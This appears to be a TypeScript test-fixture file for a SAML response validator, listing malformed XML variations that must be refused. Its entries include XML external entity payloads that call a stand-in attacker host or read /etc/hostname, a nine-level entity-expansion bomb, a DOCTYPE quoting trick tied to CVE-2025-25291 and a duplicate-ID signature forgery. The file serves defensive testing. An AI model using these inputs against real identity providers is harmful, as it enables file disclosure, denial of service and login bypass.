import { inUnsignedExtensions } from '../steps.ts'
import { replaceAt, withContent } from '../tree.ts'
import type { Variation } from '../variation.ts'
import { raw } from '../xml.ts'

/** What is wrong with a document before anybody asks what it says: rules X1 to X3 and X5. */
export type DocumentDefect =
  | 'doctype_empty'
  | 'doctype_internal_entity'
  | 'doctype_external'
  | 'doctype_external_entity'
  | 'doctype_parameter_entity'
  | 'doctype_entity_expansion'
  | 'doctype_default_attribute'
  | 'doctype_quotes'
  | 'doctype_in_lower_case'
  | 'entity_undeclared'
  | 'entity_in_id'
  | 'reference_to_null'
  | 'reference_to_control_character'
  | 'reference_to_surrogate'
  | 'reference_beyond_unicode'
  | 'utf16_little_endian'
  | 'utf16_big_endian'
  | 'utf16_declared'
  | 'latin1_declared'
  | 'utf8_invalid'
  | 'utf8_overlong'
  | 'utf8_surrogate'
  | 'byte_order_mark_twice'
  | 'null_byte'
  | 'xml_1_1'
  | 'xml_declaration_twice'
  | 'text_before_document_element'
  | 'text_after_document_element'
  | 'comment_after_document_element'
  | 'instruction_after_document_element'
  | 'end_tag_missing'
  | 'attribute_twice'
  | 'attribute_twice_by_namespace'
  | 'attribute_without_quotes'
  | 'prefix_unbound'
  | 'prefix_xml_rebound'
  | 'prefix_xmlns_bound'
  | 'prefix_undeclared'
  | 'name_with_two_colons'
  | 'less_than_in_attribute'
  | 'cdata_end_in_text'
  | 'comment_with_two_hyphens'
  | 'no_xml'
  | 'html'
  | 'empty'

/** In front of the document. */
const before =
  (prolog: string) =>
  (xml: string): string =>
    prolog + xml

const rootTag = '<samlp:Response'
const inRootTag =
  (attributes: string) =>
  (xml: string): string =>
    xml.replace(rootTag, `${rootTag} ${attributes}`)

/** The NameID as a reference to an entity whose value it is: the signature stays right. */
const nameIdAs = (entity: string): Pick<Variation, 'assertion'> => ({
  assertion: (assertion) =>
    replaceAt(assertion, 'saml:Subject/saml:NameID', (nameId) =>
      withContent(nameId, raw(entity, 'ann@example.com')),
    ),
})

const expansion = Array.from(
  { length: 9 },
  (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`,
)

/** Puts bytes in the place of the first `Ann`. */
function withBytes(...inserted: readonly number[]) {
  return (bytes: Uint8Array): Uint8Array => {
    const at = Buffer.from(bytes).indexOf('Ann')
    return Uint8Array.of(...bytes.subarray(0, at), ...inserted, ...bytes.subarray(at + 3))
  }
}

function asUtf16(bytes: Uint8Array, isBigEndian: boolean): Uint8Array {
  const buffer = Buffer.from(`\ufeff${Buffer.from(bytes).toString()}`, 'utf16le')
  return isBigEndian ? buffer.swap16() : buffer
}

function refused(rule: string, description: string, steps: Partial<Variation>): Variation {
  return { rule, description, ...steps }
}

export const documentDefects: Readonly<Record<DocumentDefect, Variation>> = {
  doctype_empty: refused('X1', 'A DOCTYPE that says nothing.', {
    text: before('<!DOCTYPE samlp:Response>'),
  }),
  doctype_internal_entity: refused('X1', 'The NameID is an entity of the DOCTYPE.', {
    ...nameIdAs('&who;'),
    text: before('<!DOCTYPE samlp:Response [<!ENTITY who "ann@example.com">]>'),
  }),
  doctype_external: refused('X1', 'The DOCTYPE is on another host.', {
    text: before('<!DOCTYPE samlp:Response SYSTEM "https://attacker.example.net/saml.dtd">'),
  }),
  doctype_external_entity: refused('X1', 'An entity is a file of this machine.', {
    ...nameIdAs('&who;'),
    text: before('<!DOCTYPE samlp:Response [<!ENTITY who SYSTEM "file:///etc/hostname">]>'),
  }),
  doctype_parameter_entity: refused('X1', 'A parameter entity is on another host.', {
    text: before(
      '<!DOCTYPE samlp:Response [<!ENTITY % dtd SYSTEM "https://attacker.example.net/x"> %dtd;]>',
    ),
  }),
  doctype_entity_expansion: refused('X1', 'Nine levels of entities, ten of the next in each.', {
    ...inUnsignedExtensions('&e9;'),
    text: before(`<!DOCTYPE samlp:Response [<!ENTITY e0 "lol">${expansion.join('')}]>`),
  }),
  doctype_default_attribute: refused('X1', 'The DOCTYPE gives the signature another namespace.', {
    text: before(
      '<!DOCTYPE samlp:Response [<!ATTLIST ds:Signature xmlns:ds CDATA #FIXED "urn:example:none">]>',
    ),
  }),
  doctype_quotes: refused(
    'X1',
    'Quotes in the DOCTYPE that parsers undo in two ways (CVE-2025-25291).',
    {
      text: before(`<!DOCTYPE samlp:Response SYSTEM 'x"><!--'[<!ENTITY a "'><!--">]>`),
    },
  ),
  doctype_in_lower_case: refused('X1', 'A doctype in lower case, which lenient parsers take.', {
    text: before('<!doctype samlp:Response>'),
  }),
  entity_undeclared: refused('X1', 'An entity of HTML.', inUnsignedExtensions('&nbsp;')),
  entity_in_id: refused('X1', 'The ID is written with an entity that nobody declares.', {
    text: (xml, { plan }) => xml.replace(`ID="${plan.facts.assertionId}"`, 'ID="&id;"'),
  }),
  reference_to_null: refused(
    'X2',
    'A reference to the null character.',
    inUnsignedExtensions('&#0;'),
  ),
  reference_to_control_character: refused(
    'X2',
    'A reference to a bell.',
    inUnsignedExtensions('&#7;'),
  ),
  reference_to_surrogate: refused(
    'X2',
    'A reference to half a character.',
    inUnsignedExtensions('&#xD800;'),
  ),
  reference_beyond_unicode: refused(
    'X2',
    'A reference to no character.',
    inUnsignedExtensions('&#x110000;'),
  ),
  utf16_little_endian: refused('X2', 'The message is UTF-16, with a byte order mark.', {
    bytes: (bytes) => asUtf16(bytes, false),
  }),
  utf16_big_endian: refused('X2', 'The message is UTF-16, the most significant byte first.', {
    bytes: (bytes) => asUtf16(bytes, true),
  }),
  utf16_declared: refused('X2', 'The declaration says UTF-16, the bytes are UTF-8.', {
    text: before('<?xml version="1.0" encoding="UTF-16"?>'),
  }),
  latin1_declared: refused('X2', 'The declaration says ISO-8859-1.', {
    text: before('<?xml version="1.0" encoding="ISO-8859-1"?>'),
  }),
  utf8_invalid: refused('X2', 'A byte that UTF-8 does not have.', { bytes: withBytes(0xff) }),
  utf8_overlong: refused('X2', 'A slash in two bytes.', { bytes: withBytes(0xc0, 0xaf) }),
  utf8_surrogate: refused('X2', 'Half a character of UTF-16 in three bytes.', {
    bytes: withBytes(0xed, 0xa0, 0x80),
  }),
  byte_order_mark_twice: refused('X2', 'Two byte order marks.', { text: before('\ufeff\ufeff') }),
  null_byte: refused('X2', 'A null byte in a value.', { bytes: withBytes(0x00) }),
  xml_1_1: refused('X2', 'The declaration says XML 1.1.', {
    text: before('<?xml version="1.1" encoding="UTF-8"?>'),
  }),
  xml_declaration_twice: refused('X2', 'Two XML declarations.', {
    text: before('<?xml version="1.0"?><?xml version="1.0"?>'),
  }),
  text_before_document_element: refused('X2', 'Text in front of the document element.', {
    text: before('x'),
  }),
  text_after_document_element: refused('X3', 'Text behind the document element.', {
    text: (xml) => `${xml}x`,
  }),
  comment_after_document_element: refused('X3', 'A comment behind the document element.', {
    text: (xml) => `${xml}<!-- x -->`,
  }),
  instruction_after_document_element: refused('X3', 'An instruction behind the document element.', {
    text: (xml) => `${xml}<?x y?>`,
  }),
  end_tag_missing: refused('X2', 'The last end tag is missing.', {
    text: (xml) => xml.slice(0, xml.lastIndexOf('</')),
  }),
  attribute_twice: refused('X2', 'The assertion has two IDs, of which the second is right.', {
    text: (xml) => xml.replace(/<saml:Assertion( xmlns:saml="[^"]*")/, '$& ID="_forged"'),
  }),
  attribute_twice_by_namespace: refused('X2', 'One attribute by two prefixes of one namespace.', {
    ...inUnsignedExtensions(
      '<x xmlns:a="urn:example:x" xmlns:b="urn:example:x" a:c="1" b:c="2"></x>',
    ),
  }),
  attribute_without_quotes: refused(
    'X2',
    'An attribute without quotes.',
    inUnsignedExtensions('<x a=1></x>'),
  ),
  prefix_unbound: refused(
    'X2',
    'A prefix that nobody declares.',
    inUnsignedExtensions('<x:y></x:y>'),
  ),
  prefix_xml_rebound: refused('X2', 'The prefix xml for another namespace.', {
    text: inRootTag('xmlns:xml="urn:example:x"'),
  }),
  prefix_xmlns_bound: refused('X2', 'The prefix xmlns is declared.', {
    text: inRootTag('xmlns:xmlns="http://www.w3.org/2000/xmlns/"'),
  }),
  prefix_undeclared: refused('X2', 'A prefix for nothing, which XML 1.0 does not know.', {
    text: inRootTag('xmlns:x=""'),
  }),
  name_with_two_colons: refused('X2', 'A name with two colons.', {
    ...inUnsignedExtensions('<a:b:c xmlns:a="urn:example:x"></a:b:c>'),
  }),
  less_than_in_attribute: refused(
    'X2',
    'A tag in an attribute’s value.',
    inUnsignedExtensions('<x a="<"></x>'),
  ),
  cdata_end_in_text: refused(
    'X2',
    'The end of a CDATA section without its begin.',
    inUnsignedExtensions(']]>'),
  ),
  comment_with_two_hyphens: refused(
    'X2',
    'Two hyphens in a comment.',
    inUnsignedExtensions('<!-- -- -->'),
  ),
  no_xml: refused('X2', 'Not XML but JSON.', { text: () => '{"issuer":"idp"}' }),
  html: refused('X2', 'A web page.', {
    text: () => '<html><head><meta charset=utf-8><title>Sign in</title></head></html>',
  }),
  empty: refused('X2', 'Nothing at all.', { text: () => '' }),
}
